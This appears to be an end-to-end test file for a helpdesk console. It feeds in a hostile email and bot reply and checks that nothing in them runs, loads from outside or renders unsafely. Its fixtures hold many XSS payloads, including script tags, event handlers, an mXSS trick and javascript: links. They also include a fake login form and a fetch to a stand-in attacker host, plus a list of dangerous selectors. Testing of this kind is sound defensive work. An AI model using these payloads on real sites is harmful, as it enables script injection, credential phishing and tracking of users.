import type { Page, Request } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { type Api, apiOf, boot, type Booted, makeWorkspace, type TestWorkspace } from '../support/boot.js';
import { ConsoleBrowser, shoot } from '../support/console.js';
import { programs } from '../support/programs.js';
import { until } from '../support/until.js';

vi.setConfig({ testTimeout: 120_000 });

const SECRET = `whsec_${Buffer.alloc(32, 7).toString('base64')}`;
const EVIL = 'https://evil.example';

/** What mails carry that want to run or to be noticed: each piece asks for an address of its own, or opens a dialog. */
const hostileBody = [
  `<!doctype html><html><head><base href="${EVIL}/base/"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<title>${EVIL}</title><link rel="stylesheet" href="${EVIL}/sheet.css"><link rel="preload" as="image" href="${EVIL}/preload.png">`,
  `<style>@import url(${EVIL}/import.css); body { background: url(${EVIL}/background.png) }</style></head>`,
  `<body onload="alert('body')" background="${EVIL}/attribute.png">`,
  `<p>Please look at my order.</p><script>alert('script')</script><script src="${EVIL}/script.js"></script>`,
  `<img src="${EVIL}/pixel.png" srcset="${EVIL}/pixel-2.png 2x" onerror="alert('image')"><img src=x onerror=alert(1)>`,
  `<picture><source srcset="${EVIL}/source.png"><img src="cid:logo" alt="logo"></picture>`,
  `<svg onload="alert('svg')"><image href="${EVIL}/svg.png"/><script>alert('in svg')</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert('mxss')&gt;"></mglyph></table></mtext></math>`,
  `<div style="background-image:url(${EVIL}/style.png);position:fixed;inset:0">covers</div>`,
  `<form action="${EVIL}/form" method="post"><input autofocus onfocus="alert('focus')" name="password"><button>Log in again</button></form>`,
  `<a href="javascript:alert('link')">Open the invoice</a> <a href="relative">Relative</a> <a href="data:text/html,<script>alert(1)</script>">Data</a>`,
  `<iframe src="${EVIL}/frame"></iframe><object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
  `<video autoplay src="${EVIL}/video.mp4" poster="${EVIL}/poster.png"></video><audio autoplay src="${EVIL}/audio.mp3"></audio>`,
  `<p>The last line.</p></body></html>`,
].join('\n');
const hostileName = `<img src=${EVIL}/name.png onerror=alert('name')>`;
const hostileSubject = `<script>alert('subject')</script><img src=${EVIL}/subject.png>`;
const hostileFile = `<svg onload=alert('file')>.html`;
const runs = `<script>alert('opened'); fetch('${EVIL}/opened')</script>`;

let booted: Booted;
let home: TestWorkspace;
let api: Api;
let browser: ConsoleBrowser;
let mailbox: string;

beforeAll(async () => {
  if (programs.chromium === undefined) return;
  booted = await boot();
  home = await makeWorkspace(booted, 'Mail');
  api = apiOf(booted, home.key);
  const fallback = [
    {
      type: 'text',
      text: `**Hm** [a](javascript:alert('bot')) ![b](${EVIL}/bot.png) <img src=${EVIL}/html.png onerror=alert('bot')>\n\n[c]: ${EVIL}/reference\n\n<${EVIL}/autolink>`,
    },
  ];
  const bot = await api('POST', '/v1/bots', {
    name: 'Hostile',
    definition: { persona: { name: 'H' }, fallback },
  });
  expect(bot.status, JSON.stringify(bot.body)).toBe(201);
  const settings = {
    address: 'support@acme.example',
    hook_secret: SECRET,
    authserv_id: 'mx.acme.example',
    smtp_host: '127.0.0.1',
    // Nobody listens there: what the bot answers is seen in the inbox all the same.
    smtp_port: 9,
    smtp_security: 'none',
    check_dns: false,
  };
  const channel = { connector: 'email', name: 'Mail', settings, bot_id: bot.body.id };
  const made = await api('POST', '/v1/channels', channel);
  expect(made.status, JSON.stringify(made.body)).toBe(201);
  mailbox = made.body.id;
  browser = await ConsoleBrowser.start();
});
afterEach(async () => {
  await browser?.closeAll();
  expect(browser?.complaints.splice(0) ?? []).toEqual([]);
});
afterAll(async () => {
  await browser?.stop();
  await booted?.close();
});

const base64 = (text: string): string => Buffer.from(text).toString('base64');
/** A header of signs that a header cannot hold by itself. @see RFC 2047 */
const word = (text: string): string => `=?utf-8?B?${base64(text)}?=`;

/** Posts a mail as it would come from a mailbox. @returns its conversation */
async function mail(id: string): Promise<string> {
  const part = (...lines: string[]): string[] => ['--frontier', ...lines];
  const lines = [
    `From: ${word(hostileName)} <mallory@evil.example>`,
    'To: support@acme.example',
    `Subject: ${word(hostileSubject)}`,
    `Message-ID: <${id}@evil.example>`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary=frontier',
    '',
    ...part('Content-Type: text/html; charset=utf-8', 'Content-Transfer-Encoding: base64', ''),
    base64(hostileBody),
    ...part(
      'Content-Type: text/html',
      `Content-Disposition: attachment; filename="${word(hostileFile)}"`,
      'Content-Transfer-Encoding: base64',
      '',
      base64(`<html><body>${runs}</body></html>`),
    ),
    ...part(
      'Content-Type: image/svg+xml',
      'Content-Disposition: attachment; filename="drawing.svg"',
      'Content-Transfer-Encoding: base64',
      '',
      base64(`<svg xmlns="http://www.w3.org/2000/svg">${runs}</svg>`),
    ),
    '--frontier--',
  ];
  // As whoever delivers mails does: again until it is taken.
  await until('the mail is taken', async () => {
    const { status } = await fetch(`${booted.url}/hooks/email/${mailbox}`, {
      method: 'POST',
      headers: { 'content-type': 'message/rfc822', authorization: `Basic ${base64(`parley:${SECRET}`)}` },
      body: lines.join('\r\n'),
    });
    return status === 200;
  });
  return until('the mail is a conversation', async () => {
    const { body } = await api('GET', `/v1/conversations?channel_id=${mailbox}`);
    return (body.data[0]?.id as string | undefined) ?? null;
  });
}

/** Every request of a page that left the house, whatever asked for it. */
function outsideOf(page: Page): string[] {
  const outside: string[] = [];
  const look = (request: Request): void => {
    const { origin, protocol } = new URL(request.url());
    if (protocol !== 'data:' && protocol !== 'blob:' && origin !== booted.url) outside.push(request.url());
  };
  page.context().on('request', look);
  return outside;
}

/** What runs, loads or covers, were it an element instead of words. */
const dangerous =
  'script, iframe, object, embed, form[action], base, meta[http-equiv], link[href*="evil"], video, audio, svg image, math, ' +
  '[onload], [onerror], [onfocus], [onclick], [style*="evil"], [src*="evil"], [srcset], [background], a[href^="javascript"], a[href^="data"]';

describe.skipIf(programs.chromium === undefined)('a hostile mail that an operator opens', () => {
  it('runs nothing and loads nothing: body, sender, subject, file names, and the answer of the bot', async () => {
    const conversation = await mail('one');
    let outside: string[] = [];
    const onPage = (opened: Page): void => void (outside = outsideOf(opened));
    const page = await browser.open(booted, home, { at: `/inbox?c=${conversation}`, onPage });
    const log = page.getByRole('log');
    await log.getByText('Please look at my order.').waitFor();
    await log.getByText('The last line.').waitFor();
    await log.getByText('Hm', { exact: true }).waitFor();
    await until('both files are stored', async () => (await log.locator('a[href^="/media/"]').count()) === 2);
    await page.getByText(hostileName, { exact: true }).first().waitFor();
    await shoot(page, 'inbox-hostile-mail');
    expect(await page.locator('main').locator(dangerous).count()).toBe(0);
    // Nothing of the mail stands in the page as a style, and nothing covers it.
    expect(await page.locator('style', { hasText: 'evil' }).count()).toBe(0);
    expect(await page.getByRole('button', { name: 'Log in again' }).count()).toBe(0);
    expect(await page.evaluate<string>('document.baseURI')).toContain(booted.url);
    for (const at of ['/inbox', '/contacts', `/channels/${mailbox}?tab=activity`, '/operations/messages']) {
      await page.goto(`${booted.url}/console${at}`);
      await page.getByRole('heading', { level: 1 }).waitFor();
      await page.waitForLoadState('load');
      expect(await page.locator('main').locator(dangerous).count(), at).toBe(0);
    }
    expect(page.url()).toContain(booted.url);
    expect(outside).toEqual([]);
  });

  it('is what its words say where each hop of it is told', async () => {
    const { body } = await api('GET', `/v1/conversations?channel_id=${mailbox}`);
    const messages = await api('GET', `/v1/conversations/${body.data[0].id}/messages?order=asc`);
    let outside: string[] = [];
    const at = `/operations/messages/${messages.body.data[0].id}`;
    const onPage = (opened: Page): void => void (outside = outsideOf(opened));
    const page = await browser.open(booted, home, { at, onPage });
    await page.getByText('Please look at my order.').first().waitFor();
    expect(await page.locator('main').locator(dangerous).count()).toBe(0);
    expect(outside).toEqual([]);
  });

  it('has files that are saved and never shown as pages of this house', async () => {
    const { body } = await api('GET', `/v1/conversations?channel_id=${mailbox}`);
    let outside: string[] = [];
    const at = `/inbox?c=${body.data[0].id}`;
    const onPage = (opened: Page): void => void (outside = outsideOf(opened));
    const page = await browser.open(booted, home, { at, onPage });
    const files = page.getByRole('log').locator('a[href^="/media/"]');
    await files.nth(1).waitFor();
    for (const file of await files.all()) {
      const address = `${booted.url}${await file.getAttribute('href')}`;
      const answer = await fetch(address, { redirect: 'manual' });
      expect(answer.headers.get('content-disposition'), address).toMatch(/^attachment/);
      expect(answer.headers.get('content-security-policy'), address).toContain('sandbox');
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      const [saved] = await Promise.all([page.context().waitForEvent('page'), file.click()]);
      await saved.close().catch(() => undefined);
    }
    expect(outside).toEqual([]);
  });
});
